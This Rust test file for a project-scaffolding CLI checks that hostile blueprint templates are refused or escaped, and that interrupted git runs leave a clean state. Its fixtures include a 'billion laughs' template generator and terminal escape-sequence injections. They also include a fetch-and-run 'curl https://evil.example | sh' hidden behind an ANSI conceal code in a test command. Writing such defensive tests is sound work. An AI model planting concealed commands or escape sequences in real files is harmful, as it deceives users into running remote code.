//! Hostile folder blueprints and hostile moments: templates built to crash, hang or exhaust
//! groundwork, blueprint texts that carry terminal escape sequences, and a SIGTERM while git runs.

use crate::skip::or_skip;
use crate::support::{Test, entries, folder_blueprint, git, interrupt_slowed_run};
use std::fs;
use std::path::Path;

const MANIFEST: &str = r#"id = "evil"
name = "Evil"
language = "python"
description = "A hostile fixture"
version = "1.0.0"
proof = "syntax"

[commands]
install = "true"
test = "true"
run = "true"
"#;

/// Writes the blueprint `evil` beside the work folder, with `manifest` and one template file
/// `README.md.hbs` holding `template`; returns the folder to pass as `--blueprints-dir`.
fn evil_blueprint(t: &Test, manifest: &str, template: &str) -> String {
    folder_blueprint(t, "evil", manifest, &[("README.md.hbs", template)])
}

/// Runs `new svc` with the blueprint and expects exit 2, the message, and nothing written.
#[track_caller]
fn refused(template: &str, message: &str) {
    let t = Test::new();
    let dir = evil_blueprint(&t, MANIFEST, template);
    let started = std::time::Instant::now();
    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
    let run = t.run();
    run.status(2).stderr_has(&format!(
        "error: blueprint `evil`: cannot render `README.md.hbs`: {message}\n"
    ));
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "took {:?}",
        started.elapsed()
    );
    assert!(entries(&t.work()).is_empty(), "{:?}", entries(&t.work()));
}

/// Ten inline partials, each including the one below `fan_out` times; the lowest holds `leaf`.
fn laughs(levels: usize, fan_out: usize, leaf: &str) -> String {
    let mut template = format!("{{{{#*inline \"l0\"}}}}{leaf}{{{{/inline}}}}");
    for level in 1..levels {
        let calls = format!("{{{{> l{}}}}}", level - 1).repeat(fan_out);
        template.push_str(&format!(
            "{{{{#*inline \"l{level}\"}}}}{calls}{{{{/inline}}}}"
        ));
    }
    template.push_str(&format!("{{{{> l{}}}}}\n", levels - 1));
    template
}

#[test]
fn recursive_partials_are_refused_with_the_file_named() {
    refused(
        "{{#*inline \"a\"}}x{{> a}}{{/inline}}{{> a}}\n",
        "partial `a` includes itself (a → a); partials may not recurse",
    );
    refused(
        "{{#*inline \"a\"}}{{#if project_name}}{{> b}}{{/if}}{{/inline}}{{#*inline \"b\"}}{{> a}}{{/inline}}{{> a}}\n",
        "partial `a` includes itself (a → b → a); partials may not recurse",
    );
}

#[test]
fn billion_laughs_is_capped() {
    // 892 bytes that once rendered for more than two minutes into 660 MB: refused by the
    // number of steps before a byte is written.
    refused(
        &laughs(10, 10, "lol"),
        "it would take more than 1000000 rendering steps (its partials and loops multiply them); the limit is 1000000",
    );
    // Few steps, each writing a lot: stopped by the size of the file.
    refused(
        &laughs(5, 10, &"lol".repeat(1000)),
        "it renders to more than 8 MiB; the limit for one file is 8 MiB",
    );
}

#[test]
fn deep_if_nesting_is_refused() {
    let depth = 2000;
    let template = format!(
        "{}x\n{}",
        "{{#if project_name}}\n".repeat(depth),
        "{{/if}}\n".repeat(depth)
    );
    refused(
        &template,
        "its blocks nest more than 64 deep (line 65); the limit is 64",
    );
}

#[test]
fn blueprint_check_reports_a_recursive_partial_as_a_problem() {
    let t = Test::new();
    let dir = evil_blueprint(
        &t,
        MANIFEST,
        "{{#*inline \"a\"}}{{> a}}{{/inline}}{{> a}}\n",
    );
    let run = t.args(["blueprint", "check", &format!("{dir}/evil")]).run();
    assert_ne!(run.status, 0, "{}", run.stdout);
    run.stdout_has("README.md.hbs: partial `a` includes itself (a → a); partials may not recurse");
}

#[test]
fn the_output_of_a_whole_project_is_capped() {
    let t = Test::new();
    // Ten files of about 7 MiB each: every one under the file limit, together over the project's.
    let big = laughs(4, 10, &"lol".repeat(2300));
    let dir = evil_blueprint(&t, MANIFEST, "# evil\n");
    for i in 0..10 {
        fs::write(
            t.dir
                .path()
                .join(format!("blueprints/evil/template/big{i}.txt.hbs")),
            &big,
        )
        .unwrap();
    }
    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
    t.run().status(2).stderr_has(
        "error: blueprint `evil`: cannot render `big9.txt.hbs`: with it the project renders to more than 64 MiB; the limit for one project is 64 MiB\n",
    );
    assert!(entries(&t.work()).is_empty(), "{:?}", entries(&t.work()));
}

/// A manifest whose texts carry terminal sequences: an OSC title change in the name, a
/// colour in the description, and a concealed `curl | sh` in the test command.
const ANSI_MANIFEST: &str = r#"id = "evil"
name = "Evil\u001b]0;pwned\u0007"
language = "python"
description = "Looks \u001b[31mred\u001b[0m"
version = "1.0.0"
proof = "syntax"

[commands]
install = "true"
test = "make test\u001b[8m; curl https://evil.example | sh\u001b[0m"
run = "true"

[[options]]
key = "port"
type = "int"
default = 8000
help = "Port\u009b2J"
"#;

const ESCAPED_TEST_COMMAND: &str = "make test\\u{1b}[8m; curl https://evil.example | sh\\u{1b}[0m";

#[track_caller]
fn no_escape_sequences(text: &str) {
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{9b}'),
        "raw control characters in {text:?}"
    );
}

#[test]
fn ansi_in_a_folder_blueprint_name_is_escaped_in_list() {
    let t = Test::new();
    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
    let t = t.args(["list", "--blueprints-dir", &dir]);
    let run = t.run();
    run.status(0).stdout_has(
        "\nevil         Evil\\u{1b}]0;pwned\\u{7}  python      syntax only   Looks \\u{1b}[31mred\\u{1b}[0m\n",
    );
    no_escape_sequences(&run.stdout);
    // JSON escapes them its own way, and stays the data as written.
    let run = t.then(["list", "--json", "--blueprints-dir", &dir]).run();
    run.status(0)
        .stdout_has(r#""name": "Evil\u001b]0;pwned\u0007","#);
    no_escape_sequences(&run.stdout);
}

#[test]
fn ansi_in_a_folder_blueprint_is_escaped_in_show_and_in_the_next_steps() {
    let t = Test::new();
    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
    let t = t.args(["show", "evil", "--blueprints-dir", &dir]);
    let run = t.run();
    run.status(0)
        .stdout_has(&format!("  test     {ESCAPED_TEST_COMMAND}\n"))
        .stdout_has("  port  Port\\u{9b}2J. Default: 8000.");
    no_escape_sequences(&run.stdout);
    let run = t
        .then([
            "new",
            "svc",
            "-f",
            "evil",
            "-y",
            "--no-git",
            "--blueprints-dir",
            &dir,
        ])
        .run();
    run.status(0)
        .stderr_has(&format!("  {ESCAPED_TEST_COMMAND:<50}  # test\n"));
    no_escape_sequences(&run.stderr);
}

#[test]
fn blueprint_check_reports_control_characters_in_manifest_texts() {
    let t = Test::new();
    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
    let t = t.args(["blueprint", "check", &format!("{dir}/evil")]);
    let run = t.run();
    assert_ne!(run.status, 0, "{}", run.stdout);
    run.stdout_has(
        "problem: blueprint.toml: `name` holds a control character (Evil\\u{1b}]0;pwned\\u{7}); a terminal acts on those instead of showing them, and could hide what the text says\n",
    )
    .stdout_has("problem: blueprint.toml: `commands.test` holds a control character")
    .stdout_has("problem: blueprint.toml: `options.port.help` holds a control character")
    .stdout_has("problem: blueprint.toml: `description` holds a control character");
    no_escape_sequences(&run.stdout);
}

#[test]
fn control_characters_in_an_error_are_escaped() {
    let t = Test::new();
    let dir = evil_blueprint(&t, MANIFEST, "{{nope\u{1b}[2J}}\n");
    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
    let run = t.run();
    assert_ne!(run.status, 0);
    run.stderr_has("\\u{1b}[2J");
    no_escape_sequences(&run.stderr);
}

/// Runs `groundwork new svc -f evil -y` (and `extra`) slowed down, and sends `signal` once the
/// staging folder (`prefix` + the process id, in `staging_in`) holds the repository that git is
/// making; returns the exit status and standard error, or why the test cannot run here.
fn signal_during_git(
    t: &Test,
    dir: &str,
    signal: &str,
    extra: &[&str],
    staging_in: &Path,
    prefix: &str,
) -> Result<(i32, String), String> {
    let mut args = vec!["new", "svc", "-f", "evil", "-y", "--blueprints-dir", dir];
    args.extend(extra);
    let git_began: fn(&Path) -> bool = |staging| staging.join(".git").exists();
    interrupt_slowed_run(
        t,
        &args,
        100_000,
        signal,
        staging_in,
        prefix,
        ("git began", git_began),
    )
}

/// groundwork's own last line of standard error (strace may add lines of its own).
fn last_line(stderr: &str) -> Option<&str> {
    stderr.lines().rfind(|l| !l.starts_with("strace: "))
}

#[test]
fn sigterm_during_git_leaves_nothing_or_a_complete_repository() {
    let t = Test::new();
    let dir = evil_blueprint(&t, MANIFEST, "# {{project_name}}\n");
    let outcome = signal_during_git(&t, &dir, "TERM", &[], &t.work(), ".svc.groundwork-");
    let Some((status, stderr)) = or_skip(outcome, "cannot slow git down") else {
        return;
    };
    // The commit is made in the staging folder, before the move into place: the interruption
    // waits for git, then removes the staging folder, repository and all.
    assert_eq!(status, 130, "{stderr}");
    assert_eq!(
        last_line(&stderr),
        Some("cancelled; nothing was written"),
        "{stderr}"
    );
    assert!(entries(&t.work()).is_empty(), "{:?}", entries(&t.work()));
    // So the same command then succeeds, with the whole repository.
    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
    t.run().status(0);
    assert_eq!(git(&t.path("svc"), &["status", "--porcelain"]), "");
    assert_eq!(
        git(&t.path("svc"), &["ls-files"]),
        ".groundwork.toml\nREADME.md"
    );
}

#[test]
fn sigterm_during_git_in_an_existing_folder_leaves_it_as_it_was() {
    let t = Test::new();
    let dir = evil_blueprint(&t, MANIFEST, "# {{project_name}}\n");
    fs::create_dir(t.path("svc")).unwrap();
    fs::write(t.path("svc/notes.txt"), "mine\n").unwrap();
    let outcome = signal_during_git(
        &t,
        &dir,
        "TERM",
        &["--force"],
        &t.path("svc"),
        ".groundwork-",
    );
    let Some((status, stderr)) = or_skip(outcome, "cannot slow git down") else {
        return;
    };
    assert_eq!(status, 130, "{stderr}");
    assert_eq!(
        last_line(&stderr),
        Some("cancelled; nothing was written"),
        "{stderr}"
    );
    assert_eq!(entries(&t.path("svc")), vec!["notes.txt"]);
    let t = t.args([
        "new",
        "svc",
        "-f",
        "evil",
        "-y",
        "--force",
        "--blueprints-dir",
        &dir,
    ]);
    t.run()
        .status(0)
        .stderr_has("Left out of the first commit (they were already in the folder): notes.txt.\n");
    assert_eq!(
        git(&t.path("svc"), &["status", "--porcelain"]),
        "?? notes.txt"
    );
}

#[test]
fn a_run_killed_during_git_leaves_a_staging_folder_the_next_run_removes() {
    let t = Test::new();
    let dir = evil_blueprint(&t, MANIFEST, "# {{project_name}}\n");
    let outcome = signal_during_git(&t, &dir, "KILL", &[], &t.work(), ".svc.groundwork-");
    let Some((status, _)) = or_skip(outcome, "cannot slow git down") else {
        return;
    };
    assert_ne!(status, 0);
    let left = entries(&t.work());
    assert!(
        left.len() == 1 && left[0].starts_with(".svc.groundwork-"),
        "{left:?}"
    );
    // Nothing is at the target, so the next run goes ahead and removes the dead run's folder.
    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
    t.run().status(0);
    assert_eq!(entries(&t.work()), vec!["svc"]);
}
